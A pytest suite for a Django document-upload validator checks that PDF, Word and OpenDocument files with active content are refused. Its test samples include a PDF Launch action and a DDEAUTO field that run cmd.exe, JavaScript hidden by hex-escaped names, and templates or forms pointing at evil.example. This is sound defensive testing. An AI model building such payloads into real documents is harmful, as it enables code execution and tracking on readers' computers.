import pytest
from django.core.exceptions import ValidationError

from papers.tests import files
from papers.validators import inspect_document


def _inspect(data: bytes, name: str = "paper.pdf"):
    return inspect_document(files.upload(name, data))


@pytest.mark.parametrize(
    ("name", "data", "file_format"),
    [
        ("paper.pdf", files.pdf_bytes(), "pdf"),
        ("paper.docx", files.docx_bytes(), "docx"),
        ("paper.odt", files.odt_bytes(), "odt"),
        # The name plays no part: a PDF called .docx is a PDF.
        ("paper.docx", files.pdf_bytes(), "pdf"),
    ],
)
def test_valid_documents_are_recognised_by_their_content(name, data, file_format):
    import hashlib

    inspected = _inspect(data, name)
    assert (inspected.file_format, inspected.size, inspected.sha256) == (
        file_format,
        len(data),
        hashlib.sha256(data).hexdigest(),
    )


def test_a_pdf_written_by_pypdf_is_accepted():
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    assert _inspect(out.getvalue()).file_format == "pdf"


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("empty.pdf", b"", "empty"),
        ("page.pdf", files.HTML_AS_PDF, "unrecognised"),
        ("drawing.pdf", files.SVG_AS_PDF, "unrecognised"),
        ("notes.pdf", b"Just some text, not a document", "unrecognised"),
        ("macros.docx", files.docm_bytes(), "docx_macros"),
        ("hidden.docx", files.docx_with_hidden_vba_bytes(), "docx_macros"),
        ("sheet.odt", files.odt_bytes(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "odt_wrong_type"),
        ("broken.pdf", files.pdf_bytes()[:150], "pdf_broken"),
        ("fake.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", "pdf_broken"),
        ("archive.zip", files._zip([("readme.txt", b"hello")]), "unrecognised_zip"),
    ],
)
def test_hostile_and_broken_files_are_refused(name, data, code):
    with pytest.raises(ValidationError) as error:
        _inspect(data, name)
    assert error.value.code == code


def test_the_refusal_says_what_is_accepted():
    with pytest.raises(ValidationError) as error:
        _inspect(files.HTML_AS_PDF)
    assert error.value.messages == [
        "This file is not a PDF, Word (.docx) or OpenDocument text (.odt) document. Only these formats are "
        "accepted, whatever the file name says."
    ]


def test_a_file_over_the_limit_is_refused_with_both_sizes(settings):
    settings.PAPERS_MAX_UPLOAD_BYTES = 1024
    with pytest.raises(ValidationError) as error:
        _inspect(files.pdf_bytes(pages=4) + b"\n" * 1024)
    assert error.value.code == "too_large"
    assert error.value.messages[0].endswith("the largest file accepted is 1.0\xa0KB.")


def test_the_default_limit_is_twenty_megabytes(settings):
    del settings.PAPERS_MAX_UPLOAD_BYTES
    from papers.validators import max_upload_bytes

    assert max_upload_bytes() == 20 * 1024 * 1024


def test_a_docx_with_a_corrupt_body_is_refused_not_a_crash():
    data = bytearray(files.docx_bytes("x" * 2000))
    body = data.find(b"word/document.xml", data.find(b"word/document.xml") + 1)  # the central directory's name
    start = data.find(b"word/document.xml") + len("word/document.xml")
    data[start : start + 40] = b"\xff" * 40  # garble the compressed stream of the document body
    assert body > 0
    with pytest.raises(ValidationError) as error:
        _inspect(bytes(data), "paper.docx")
    assert error.value.code in {"zip_damaged", "docx_damaged"}


def test_an_encrypted_zip_entry_is_refused_not_a_crash():
    data = bytearray(files.docx_bytes())
    # Set the "encrypted" flag on every entry (local headers and central directory).
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.find(signature)
        while position != -1:
            data[position + offset] |= 0x01
            position = data.find(signature, position + 4)
    with pytest.raises(ValidationError) as error:
        _inspect(bytes(data), "paper.docx")
    assert error.value.code == "zip_damaged"


# Active content, wherever the format allows it. Each refusal names its reasons, then says what
# to do; the samples are built here, byte by byte or with pikepdf.


def _refusal(data: bytes, name: str = "paper.pdf") -> list[tuple[str, str]]:
    with pytest.raises(ValidationError) as error:
        _inspect(data, name)
    return [(e.code, e.message % (e.params or {})) for e in error.value.error_list]


PDF_ADVICE = ("pdf_active_content", "Export or print it again as a plain PDF and upload it.")
JAVASCRIPT = ("pdf_javascript", "The PDF contains JavaScript.")
OPEN_ACTION = ("pdf_open_action", "The PDF runs an action as soon as it is opened (OpenAction).")
EMBEDDED = ("pdf_embedded_file", "The PDF contains embedded files.")
RICH_MEDIA = ("pdf_rich_media", "The PDF contains rich media (Flash, sound, video or 3D content).")


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            files.annotated_pdf_bytes(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A << /S /JavaScript /JS (app.alert(1)) >> >>"
            ),
            [JAVASCRIPT],
            id="javascript-in-a-link-annotation",
        ),
        pytest.param(
            files.annotated_pdf_bytes(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A << /S /Launch /F (cmd.exe) "
                b"/Win << /F (cmd.exe) /P (/c calc) >> >> >>"
            ),
            [("pdf_launch", "The PDF contains an action that starts a program or opens another file (Launch).")],
            id="launch",
        ),
        pytest.param(
            files.pdf_bytes(extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
            [JAVASCRIPT, OPEN_ACTION],
            id="openaction-javascript",
        ),
        pytest.param(
            files.pdf_bytes(extra=b"/OpenAction 6 0 R ", objects=(b"<< /S /SubmitForm /F (http://evil.example/) >>",)),
            [
                ("pdf_submit_form", "The PDF contains a form that sends its data to an address (SubmitForm)."),
                OPEN_ACTION,
            ],
            id="openaction-submitting-a-form",
        ),
        pytest.param(
            files.pdf_bytes(page_extra=b"/AA << /O << /S /URI /URI (http://evil.example/track) >> >> "),
            [
                (
                    "pdf_additional_actions",
                    "The PDF contains actions triggered by events, such as opening a page or leaving a field "
                    "(additional actions).",
                )
            ],
            id="page-additional-actions",
        ),
        pytest.param(
            files.pdf_bytes(
                extra=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >> ",
                objects=(
                    b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
                    files.pdf_stream(b"MZ\x90\x00", b"/Type /EmbeddedFile "),
                ),
            ),
            [EMBEDDED],
            id="embedded-files",
        ),
        pytest.param(
            files.annotated_pdf_bytes(
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>",
                b"<< /Type /Filespec /F (notes.docm) /EF << /F 8 0 R >> >>",
                files.pdf_stream(b"PK\x03\x04", b"/Type /EmbeddedFile "),
            ),
            [EMBEDDED],
            id="file-attachment-annotation",
        ),
        pytest.param(
            files.annotated_pdf_bytes(
                b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent << /Assets 7 0 R >> >>",
                b"<< /Names [] >>",
            ),
            [RICH_MEDIA],
            id="rich-media",
        ),
        pytest.param(
            files.pdf_bytes(
                extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
                objects=(files.pdf_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),),
            ),
            [("pdf_xfa", "The PDF contains an XFA form.")],
            id="xfa-in-acroform",
        ),
        pytest.param(
            files.pdf_bytes(extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> "),
            [JAVASCRIPT, OPEN_ACTION],
            id="names-with-hex-escapes",
        ),
        pytest.param(
            files.pdf_bytes(
                extra=b"/Names << /J#61v#61Script << /Names [(x) 6 0 R] >> >> ",
                objects=(b"<< /S /GoTo /D [4 0 R /Fit] >>",),
            ),
            [JAVASCRIPT],
            id="document-javascript-name-tree-escaped",
        ),
    ],
)
def test_a_pdf_with_active_content_is_refused_with_its_reasons(data, reasons):
    assert _refusal(data) == [*reasons, PDF_ADVICE]


def test_a_pdf_hiding_javascript_in_a_compressed_object_stream_is_refused():
    data = files.pdf_with_object_streams_bytes({"/S": "/JavaScript", "/JS": "app.alert(1)"})
    assert b"/ObjStm" in data and b"JavaScript" not in data  # invisible to a scan of the bytes
    assert _refusal(data) == [JAVASCRIPT, OPEN_ACTION, PDF_ADVICE]


@pytest.mark.parametrize("passwords", [{"user": "secret", "owner": "secret"}, {"user": "", "owner": "owner"}])
def test_a_password_protected_pdf_is_refused(passwords):
    import io

    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.pdf_bytes())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(**passwords))
    assert _refusal(out.getvalue()) == [
        ("pdf_encrypted", "This PDF is protected by a password. Remove the protection and upload it again.")
    ]


def test_a_pdf_without_pages_is_refused():
    import io

    import pikepdf

    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.save(out)
    assert _refusal(out.getvalue()) == [("pdf_empty", "This PDF has no pages.")]


def test_hex_escaped_names_are_invisible_to_a_byte_scan():
    data = files.pdf_bytes(extra=b"/OpenAction << /S /J#61vaScript /J#53 (x) >> ")
    assert b"JavaScript" not in data and b"/JS" not in data


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(files.pdf_with_object_streams_bytes(), id="object-streams"),
        # LibreOffice and Word open at a page: a destination, or a GoTo action.
        pytest.param(files.pdf_bytes(extra=b"/OpenAction [4 0 R /XYZ null null 0] "), id="openaction-destination"),
        pytest.param(files.pdf_bytes(extra=b"/OpenAction << /S /GoTo /D [4 0 R /Fit] >> "), id="openaction-goto"),
        pytest.param(
            files.annotated_pdf_bytes(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A << /S /URI /URI (https://gfmd.org/) >> >>"
            ),
            id="web-link",
        ),
        pytest.param(files.pdf_bytes(extra=b"/AcroForm << /Fields [] >> "), id="plain-acroform"),
    ],
)
def test_a_clean_pdf_is_accepted(data):
    assert _inspect(data).file_format == "pdf"


# Word documents.

OFFICE_ADVICE = "Remove these and save the document again, or upload it as a PDF."
DDE = "The document contains a DDE field or link, which can run commands on the reader's computer."
TEMPLATE = "The document links to an external template."
OLE = "The document contains an embedded OLE object."
SETTINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<w:settings xmlns:w="{files.W_NS}" xmlns:r="{files.R_NS}"><w:attachedTemplate r:id="rId10"/></w:settings>'
).encode()


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            files.docx_bytes(
                parts=(
                    ("word/settings.xml", SETTINGS),
                    (
                        "word/_rels/settings.xml.rels",
                        files.relationships(("attachedTemplate", "http://evil.example/report.dotm", "External")),
                    ),
                )
            ),
            [("docx_external_template", TEMPLATE)],
            id="attached-template",
        ),
        pytest.param(
            files.docx_bytes(
                body='<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId10"/></v:shape></w:pict></w:r></w:p>',
                document_rels=(("image", "http://evil.example/pixel.png", "External"),),
            ),
            [("docx_external_image", "The document shows a picture loaded from outside it.")],
            id="linked-picture",
        ),
        pytest.param(
            files.docx_bytes(
                parts=(
                    (
                        "word/_rels/webSettings.xml.rels",
                        files.relationships(("frame", "http://evil.example/page.html", "External")),
                    ),
                )
            ),
            [("docx_external_frame", "The document loads a web page or another file into a frame.")],
            id="frame",
        ),
        pytest.param(
            files.docx_bytes(document_rels=(("subDocument", "file:///C:/share/chapter.docx", "External"),)),
            [("docx_external_document", "The document includes another document through a link.")],
            id="sub-document",
        ),
        pytest.param(
            files.docx_bytes(document_rels=(("oleObject", "file:///C:/data/figures.xlsx", "External"),)),
            [("docx_linked_object", "The document contains an object linked to a file outside it.")],
            id="linked-ole-object",
        ),
        pytest.param(
            files.docx_bytes(
                body='<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId10"/>'
                "</w:object></w:r></w:p>",
                document_rels=(("oleObject", "embeddings/oleObject1.bin", ""),),
                parts=(("word/embeddings/oleObject1.bin", files.OLE_MAGIC + b"\x00" * 600),),
            ),
            [("docx_ole_object", OLE)],
            id="embedded-ole-object",
        ),
        pytest.param(
            # An OLE compound file behind an innocent-looking relationship and name.
            files.docx_bytes(
                document_rels=(("package", "embeddings/chart.xlsx", ""),),
                parts=(("word/embeddings/chart.xlsx", files.OLE_MAGIC + b"\x00" * 600),),
            ),
            [("docx_ole_object", OLE)],
            id="ole-file-under-another-name",
        ),
        pytest.param(
            files.docx_bytes(body=files.docx_field(["DDE", 'AUTO c:\\windows\\system32\\cmd.exe "/k calc" '])),
            [("docx_dde", DDE)],
            id="ddeauto-split-over-runs",
        ),
        pytest.param(
            files.docx_bytes(
                body='<w:p><w:fldSimple w:instr=" dde excel.exe C:\\data.xls"><w:r><w:t>1</w:t></w:r>'
                "</w:fldSimple></w:p>"
            ),
            [("docx_dde", DDE)],
            id="dde-simple-field",
        ),
        pytest.param(
            files.docx_bytes(
                body='<w:p><w:r><w:control r:id="rId10" w:name="CommandButton1"/></w:r></w:p>',
                document_rels=(("control", "activeX/activeX1.xml", ""),),
                parts=(("word/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:ax"/>'),),
            ),
            [("docx_activex", "The document contains ActiveX controls.")],
            id="activex-control",
        ),
    ],
)
def test_a_word_document_with_active_content_is_refused_with_its_reasons(data, reasons):
    assert _refusal(data, "paper.docx") == [*reasons, ("docx_active_content", OFFICE_ADVICE)]


@pytest.mark.parametrize(
    "data",
    [
        # A background paper cites its sources: a hyperlink is followed only on a click.
        pytest.param(
            files.docx_bytes(
                body='<w:p><w:hyperlink r:id="rId10"><w:r><w:t>IOM</w:t></w:r></w:hyperlink></w:p>',
                document_rels=(("hyperlink", "https://www.iom.int/", "External"),),
            ),
            id="hyperlink",
        ),
        pytest.param(files.docx_bytes(body=files.docx_field([" PAGE "])), id="page-number-field"),
        pytest.param(
            files.docx_bytes(body=files.docx_field([" HYPERLINK ", '"https://gfmd.org/"'])), id="hyperlink-field"
        ),
        pytest.param(
            files.docx_bytes(
                document_rels=(("image", "media/image1.png", ""),),
                parts=(("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),),
            ),
            id="embedded-picture",
        ),
    ],
)
def test_a_clean_word_document_is_accepted(data):
    assert _inspect(data, "paper.docx").file_format == "docx"


# OpenDocument texts.

SUB_DOCUMENT = (
    b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'
)


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
                parts=(("Object 1", files.OLE_MAGIC + b"\x00" * 600),),
            ),
            [("odt_ole_object", OLE)],
            id="embedded-ole-object",
        ),
        pytest.param(
            files.odt_bytes(meta='<meta:template xlink:type="simple" xlink:href="http://evil.example/letter.ott"/>'),
            [("odt_external_template", TEMPLATE)],
            id="external-template",
        ),
        pytest.param(
            files.odt_bytes(
                body='<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
                'location=document">Open</text:a></text:p>'
            ),
            [("odt_macro_link", "The document starts macros from a link, a button or an event.")],
            id="link-starting-a-macro",
        ),
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:frame><draw:image xlink:href="https://evil.example/pixel.png"/></draw:frame></text:p>'
            ),
            [("odt_external_image", "The document shows a picture loaded from outside it.")],
            id="linked-picture",
        ),
    ],
)
def test_an_opendocument_text_with_active_content_is_refused_with_its_reasons(data, reasons):
    assert _refusal(data, "paper.odt") == [*reasons, ("odt_active_content", OFFICE_ADVICE)]


def test_an_opendocument_text_with_basic_macros_is_refused():
    data = files.odt_bytes(parts=(("Basic/Standard/Module1.xml", b'<?xml version="1.0"?><module/>'),))
    assert _refusal(data, "paper.odt") == [
        (
            "odt_macros",
            "This document contains macros, which are not accepted. Save it without macros and upload it again.",
        )
    ]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            files.odt_bytes(body='<text:p><text:a xlink:href="https://www.iom.int/">IOM</text:a></text:p>'),
            id="hyperlink",
        ),
        # A chart or a formula is an ODF sub-document inside the package.
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>',
                parts=(("Object 1/content.xml", SUB_DOCUMENT),),
            ),
            id="chart-sub-document",
        ),
        pytest.param(
            files.odt_bytes(
                body='<text:p><draw:frame><draw:image xlink:href="Pictures/map.png"/></draw:frame></text:p>'
            ),
            id="embedded-picture",
        ),
    ],
)
def test_a_clean_opendocument_text_is_accepted(data):
    assert _inspect(data, "paper.odt").file_format == "odt"
